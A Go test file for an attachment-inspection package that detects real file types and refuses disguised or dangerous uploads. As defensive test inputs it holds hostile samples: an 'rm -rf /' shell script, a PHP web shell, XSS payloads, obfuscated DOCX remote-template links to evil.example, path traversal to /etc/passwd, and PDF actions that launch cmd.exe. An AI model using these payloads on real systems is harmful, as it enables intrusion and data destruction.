package inspect

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf16"
)

func TestWhatAFileIs(t *testing.T) {
	t.Parallel()
	odt := zipOf(t, part{"mimetype", []byte("application/vnd.oasis.opendocument.text")}, part{"content.xml", []byte("<x/>")})
	xlsx := zipOf(t, part{"[Content_Types].xml", []byte("<Types/>")}, part{"xl/workbook.xml", []byte("<x/>")})
	opus := append([]byte("OggS\x00\x02"), append(make([]byte, 22), "OpusHead\x01\x01"...)...)
	var tamil []byte
	for _, u := range utf16.Encode([]rune("\ufeffபெயர்\tதொகை\r\n")) {
		tamil = append(tamil, byte(u), byte(u>>8))
	}
	for _, tt := range []struct {
		name, claimed, file string
		content             []byte
		media, kind         string
	}{
		{"jpeg", "image/jpeg", "a.jpg", jpegOf(t, 20, 10), "image/jpeg", "image"},
		{"jpeg said to be png", "image/png", "a.png", jpegOf(t, 20, 10), "image/jpeg", "image"},
		{"png", "", "", pngOf(t, 20, 10), "image/png", "image"},
		{"gif", "image/gif", "", gifOf(t, 3), "image/gif", "image"},
		{"sticker", "image/webp", "", riffOf("WEBP", chunkOf("VP8L", stillVP8L)), "image/webp", "image"},
		{"moving sticker", "image/webp", "", movingWebP(3), "image/webp", "image"},
		{"heic", "image/heic", "", append(boxOf("ftyp", []byte("heic\x00\x00\x00\x00mif1")), boxOf("meta", boxOf("ispe", []byte("\x00\x00\x00\x00\x00\x00\x00\x40\x00\x00\x00\x20")))...), "image/heic", "image"},
		{"pdf that opens at a page", "application/pdf", "a.pdf", pdfWith("/OpenAction[2 0 R/Fit]"), "application/pdf", "file"},
		{"pdf", "application/pdf", "a.pdf", []byte("%PDF-1.7\n1 0 obj\nendobj\nstartxref\n9\n%%EOF\n"), "application/pdf", "file"},
		{"voice", "audio/ogg; codecs=opus", "", opus, "audio/ogg", "audio"},
		{"amr", "audio/amr", "", []byte("#!AMR\n\x3c\x00\x01"), "audio/amr", "audio"},
		{"mp3", "audio/mpeg", "", mp3(4), "audio/mpeg", "audio"},
		{"mp3 with a tag", "audio/mpeg", "", []byte("ID3\x04\x00\x00\x00\x00\x00\x21and then some"), "audio/mpeg", "audio"},
		{"aac", "audio/aac", "", aac(4), "audio/aac", "audio"},
		{"m4a", "audio/mp4", "a.m4a", mp4("M4A ", "soun"), "audio/mp4", "audio"},
		{"mp4", "video/mp4", "", mp4("isom", "vide"), "video/mp4", "video"},
		{"3gp", "video/3gpp", "", mp4("3gp4", "vide"), "video/3gpp", "video"},
		{"mov", "video/quicktime", "a.mov", mp4("qt  ", "vide"), "video/quicktime", "video"},
		{"wav", "audio/x-wav", "", riffOf("WAVE", chunkOf("fmt ", make([]byte, 16))), "audio/wav", "audio"},
		{"text", "text/plain", "a.txt", []byte("வணக்கம், தொகை 500"), "text/plain", "file"},
		{"text of an old charset", "text/plain", "", []byte("caf\xe9 cr\xe8me"), "text/plain", "file"},
		{"csv", "text/csv", "a.csv", []byte("date,amount\n2026-11-22,500\n"), "text/csv", "file"},
		{"csv said to be a sheet", "application/vnd.ms-excel", "a.csv", []byte("date,amount\n"), "text/csv", "file"},
		{"csv of a spreadsheet program", "text/csv", "a.csv", tamil, "text/csv", "file"},
		{"card", "text/x-vcard", "a.vcf", []byte("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Meena\r\nEND:VCARD\r\n"), "text/vcard", "file"},
		{"date", "text/calendar", "a.ics", []byte("\xef\xbb\xbfBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"), "text/calendar", "file"},
		{"docx", "", "a.docx", docx(t), office[0].media, "file"},
		{"xlsx", "", "a.xlsx", xlsx, office[1].media, "file"},
		{"docx with links", "", "a.docx", docx(t, part{"word/_rels/document.xml.rels", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="urn:x"><Relationship Id="1" Type="urn:x/hyperlink" Target="https://good.example/" TargetMode="External"/>
<Relationship Id="2" Type="urn:x/attachedTemplate" Target="file:///C:\Users\meena\Normal.dotm" TargetMode="External"/>
<Relationship Id="3" Type="urn:x/attachedTemplate" Target="C:/Letters/a.dotx" TargetMode="External"/>
<Relationship Id="4" Type="urn:x/oleObject" Target="embeddings/sheet1.xlsx"/>
<Relationship Id="5" Type="urn:x/attachedTemplate" Target="file:///Users/meena/Library/Group%20Containers/Normal.dotm" TargetMode="External"/>
<Relationship Id="6" Type="urn:x/attachedTemplate" Target="file://localhost/Users/meena/Normal.dotm" TargetMode="External"/>
<Relationship Id="7" Type="urn:x/attachedTemplate" Target="Macintosh%20HD:Users:meena:Normal.dotm" TargetMode="External"/></Relationships>`)}), office[0].media, "file"},
		{"sheet with a link in each row", "", "a.xlsx", zipOf(t, part{"[Content_Types].xml", []byte(`<Types/>`)}, part{"xl/worksheets/_rels/sheet1.xml.rels", []byte(`<Relationships>` +
			strings.Repeat(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:donor@example.org" TargetMode="External"/>`, 20_000) +
			`</Relationships>`)}), office[1].media, "file"},
		{"odt", "", "a.odt", odt, "application/vnd.oasis.opendocument.text", "file"},
		{"doc", "application/msword", "a.doc", ole("WordDocument", "1Table"), "application/msword", "file"},
		{"xls", "", "a.xls", ole("Workbook"), "application/vnd.ms-excel", "file"},
		{"rtf", "application/msword", "a.doc", []byte(`{\rtf1 Dear all}`), "application/rtf", "file"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := look(bytes.NewReader(tt.content), ask{Claimed: tt.claimed, Name: tt.file})
			if err != nil || got.Refused != "" || got.Type != tt.media || got.Kind != tt.kind {
				t.Errorf("look = %s %s, refused %q, %v; want %s %s", got.Kind, got.Type, got.Refused, err, tt.kind, tt.media)
			}
			if shown := tt.kind == "image" && tt.name != "heic"; shown != (got.Thumb != nil) {
				t.Errorf("there is a small picture of %d bytes", len(got.Thumb))
			}
		})
	}
}

func TestWhatIsRefused(t *testing.T) {
	t.Parallel()
	photo, page := jpegOf(t, 20, 10), []byte("<!DOCTYPE html><script>alert(1)</script>")
	pdf := []byte("%PDF-1.7\nstartxref\n9\n%%EOF\n")
	template := []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`)
	rels := func(inside string) []byte {
		return docx(t, part{"word/_rels/settings.xml.rels", []byte(`<?xml version="1.0" encoding="UTF-8"?><Relationships>` + inside + `</Relationships>`)})
	}
	for _, tt := range []struct {
		name, claimed, file string
		content             []byte
		want                string
	}{
		{"nothing", "image/jpeg", "", nil, "it is empty"},
		{"picture that is a page", "image/jpeg", "a.jpg", page, "it says that it is a picture, and is a web page"},
		{"picture that is a PDF", "image/png", "", pdf, "it says that it is a picture, and is a PDF"},
		{"picture by its name only", "application/octet-stream", "a.jpg", pdf, "it says that it is a picture, and is a PDF"},
		{"PDF that is a picture", "application/pdf", "a.pdf", photo, "it says that it is a PDF, and is a picture"},
		{"voice that is a program", "audio/ogg", "", []byte("\x7fELF\x02\x01\x01"), "it says that it is a recording, and is a program"},
		{"picture that is an archive", "image/jpeg", "", []byte("Rar!\x1a\x07\x00"), "it says that it is a picture, and is an archive"},
		{"text that is a picture", "text/plain", "a.txt", photo, "it says that it is a document or text, and is a picture"},
		{"program", "", "setup", []byte("MZ\x90\x00\x03"), "it is a program"},
		{"script", "text/plain", "a.txt", []byte("#!/bin/sh\nrm -rf /\n"), "it is a program"},
		{"PHP", "text/plain", "", []byte("<?php system($_GET['x']); ?>"), "it is a program"},
		{"shortcut", "", "", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00"), "it is a program"},
		{"page", "text/html", "a", page, "it is a web page"},
		{"page after blanks", "text/plain", "", []byte("\xef\xbb\xbf \r\n\t<hTmL><body onload=alert(1)>"), "it is a web page"},
		{"page after a comment", "text/plain", "", []byte("<!-- x --><p>"), "it is a web page"},
		{"page in UTF-16", "text/plain", "", []byte("\xff\xfe" + wide("<html><script>")), "it is a web page"},
		{"drawing", "image/svg+xml", "", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "it says that it is a picture, and is a web page"},
		{"drawing without a claim", "", "", []byte(`<?xml version="1.0"?><!-- --><svg/>`), "it is a web page"},
		{"two endings", "application/pdf", "receipt.pdf.exe", pdf, "a computer runs files whose name ends in .exe"},
		{"ending with blanks behind", "", "a.Bat . ", []byte("echo"), "a computer runs files whose name ends in .bat"},
		{"ending turned round", "", "a\u202egpj.exe", photo, "a computer runs files whose name ends in .exe"},
		{"page by its name", "text/plain", "a.html", []byte("hello"), "a computer runs files whose name ends in .html"},
		{"archive", "application/zip", "a.zip", zipOf(t, part{"a.txt", []byte("x")}), "it is an archive: ask for the files in it one by one"},
		{"archive in an archive", "", "", zipOf(t, part{"b.zip", zipOf(t, part{"a", nil})}), "it is an archive"},
		{"app", "", "", zipOf(t, part{"AndroidManifest.xml", nil}), "it is a program"},
		{"gzip", "", "", []byte("\x1f\x8b\x08\x00"), "it is an archive"},
		{"macros", "", "a.docx", docx(t, part{"word/vbaProject.bin", []byte("x")}), "there are programs inside it"},
		{"macros by another name", "", "a.docx", docx(t, part{"word/Vbaproject1.BIN", []byte("x")}), "there are programs inside it"},
		{"macros of old sheets", "", "", zipOf(t, part{"[Content_Types].xml", nil}, part{"xl/macrosheets/sheet1.xml", nil}), "there are programs inside it"},
		{"macros by its own word", "", "", zipOf(t, part{"[Content_Types].xml", []byte(`<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`)}, part{"word/document.xml", nil}), "there are programs inside it"},
		{"macros by its own word, as entities", "", "", zipOf(t, part{"[Content_Types].xml", []byte(`<Types><Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>`)}, part{"word/document.xml", nil}), "there are programs inside it"},
		{"macros of odt", "", "", zipOf(t, part{"mimetype", []byte("application/vnd.oasis.opendocument.text")}, part{"Basic/Standard/Module1.xml", nil}), "there are programs inside it"},
		{"template from elsewhere", "", "", docx(t, part{"word/_rels/settings.xml.rels", template}), "it would load something from the internet"},
		{"template in other quotes", "", "", rels(`<Relationship Type='urn:x/attachedTemplate' TargetMode='External' Target='https://evil.example/x.dotm'/>`), "it would load something from the internet"},
		{"template behind a line break", "", "", rels("<Relationship\nTarget = \"https://evil.example/x.dotm\" Type=\"urn:x/attachedTemplate\"\tTargetMode=\"External\"></Relationship>"), "it would load something from the internet"},
		{"template by another name", "", "", rels(`<r:Relationship xmlns:r="urn:x" Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
		{"template in capitals", "", "", rels(`<Relationship Type="urn:x/attachedTemplate" Target="HTTPS://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
		{"template as entities", "", "", rels(`<Relationship Type="urn:x/attachedTemplat&#101;" Target="&#104;ttps://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
		{"template from a share", "", "", rels(`<Relationship Type="urn:x/oleObject" Target="file://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
		{"template from a share in other words", "", "", rels(`<Relationship Type="urn:x/frame" Target="file:///\\\\evil.example\\x" TargetMode="External"/>`), "it would load something from the internet"},
		{"template without slashes", "", "", rels(`<Relationship Type="urn:x/attachedTemplate" Target="https:evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
		{"template in percents", "", "", rels(`<Relationship Type="urn:x/frame" Target="file:///%5C%5Cevil.example%5Cx" TargetMode="External"/>`), "it would load something from the internet"},
		{"template behind words of another vocabulary", "", "", rels(`<Relationship xmlns:o="urn:o" Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External" o:Type="a" o:Target="b" o:TargetMode="Internal"/>`), "it would load something from the internet"},
		{"template by a declaration", "", "", docx(t, part{"word/_rels/settings.xml.rels", []byte(`<!DOCTYPE Relationships [<!ATTLIST Relationship TargetMode CDATA "External">]><Relationships><Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm"/></Relationships>`)}), "it is put together in a way that tricks programs"},
		{"template behind much else", "", "", rels("<!--" + strings.Repeat(" x", 8<<20) + "-->" + `<Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>`), "it is put together in a way that tricks programs"},
		{"list in UTF-16", "", "", docx(t, part{"word/_rels/settings.xml.rels", []byte("\xff\xfe" + wide(`<Relationships><Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`))}), "it is cut short or broken"},
		{"way out", "", "", docx(t, part{"../../etc/passwd", nil}), "it is put together in a way that tricks programs"},
		{"same name twice", "", "", docx(t, part{"word/document.xml", nil}), "it is put together in a way that tricks programs"},
		{"old macros", "application/msword", "a.doc", ole("WordDocument", "Macros\x00", "_VBA_PROJECT"), "there are programs inside it"},
		{"locked", "", "a.xlsx", ole("EncryptedPackage"), "it is locked with a password"},
		{"installer", "", "a", ole("Property"), "it is of no kind that is kept"},
		{"rtf with an object", "", "a.rtf", []byte(`{\rtf1 ` + strings.Repeat("x", 40_000) + `{\object\objdata 0105}}`), "there is another file inside it"},
		{"noise", "", "", bytes.Repeat([]byte{1, 2, 3, 0x80, 0, 9}, 900), "it is of no kind that is kept"},
		{"text that turns", "text/plain", "", append(bytes.Repeat([]byte("text "), 4000), 0, 1, 2), "it begins as text and goes on as something else"},
		{"half a jpeg", "image/jpeg", "", photo[:len(photo)/2], "it is cut short or broken"},
		{"half a png", "image/png", "", pngOf(t, 100, 100)[:200], "it is cut short or broken"},
		{"half a gif", "image/gif", "", gifOf(t, 20)[:100], "it is cut short or broken"},
		{"half a sticker", "image/webp", "", movingWebP(3)[:60], "it is cut short or broken"},
		{"half a film", "video/mp4", "", mp4("isom", "vide")[:120], "it is cut short or broken"},
		{"half a docx", "", "a.docx", docx(t)[:300], "it is cut short or broken"},
		{"PDF with a script", "application/pdf", "a.pdf", pdfWith("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "there are programs inside it"},
		{"PDF that starts a program", "application/pdf", "a.pdf", pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>"), "there are programs inside it"},
		{"half a PDF", "application/pdf", "", []byte("%PDF-1.7\n1 0 obj"), "it is cut short or broken"},
		{"head of a jpeg and a page", "image/jpeg", "", append([]byte("\xff\xd8\xff\xe0"), page...), "it is cut short or broken"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := look(bytes.NewReader(tt.content), ask{Claimed: tt.claimed, Name: tt.file})
			if err != nil || !strings.HasPrefix(got.Refused, tt.want) {
				t.Errorf("look = %s, refused %q, %v; want %q", got.Type, got.Refused, err, tt.want)
			}
		})
	}
}

func TestAMailsOwnPageStays(t *testing.T) {
	t.Parallel()
	page := []byte("<html><script>alert(1)</script>")
	got, err := look(bytes.NewReader(page), ask{Claimed: "text/html", Limits: Limits{Page: true}})
	if err != nil || got.Refused != "" || got.Type != "text/html" || got.Kind != "page" {
		t.Errorf("look = %+v, %v; want a page", got, err)
	}
	got, err = look(bytes.NewReader(page), ask{Limits: Limits{Page: true, Bytes: 10}})
	if err != nil || got.Refused == "" {
		t.Errorf("a page that is too large = %+v, %v; want it refused", got, err)
	}
}

// The size of a moving picture is written less one, in three bytes, of which none may carry into the next.
func TestTheSizeOfAMovingPicture(t *testing.T) {
	t.Parallel()
	sticker := movingWebP(2)
	at := bytes.Index(sticker, []byte("VP8X")) + 8 + 4
	copy(sticker[at:], []byte{0xff, 0x01, 0x00, 0xff, 0x02, 0x00})
	got, err := look(bytes.NewReader(sticker), ask{})
	if err != nil || got.Refused != "" || got.Width != 512 || got.Height != 768 {
		t.Errorf("look = %d × %d, refused %q, %v; want 512 × 768", got.Width, got.Height, got.Refused, err)
	}
}

// pdfWith is a PDF with something in its catalogue, far from its beginning and its end.
func pdfWith(catalogue string) []byte {
	far := "%" + strings.Repeat("x", 20_000) + "\n"
	return []byte("%PDF-1.7\n" + far + "1 0 obj<</Type/Catalog" + catalogue + ">>endobj\n" + far + "startxref\n9\n%%EOF\n")
}
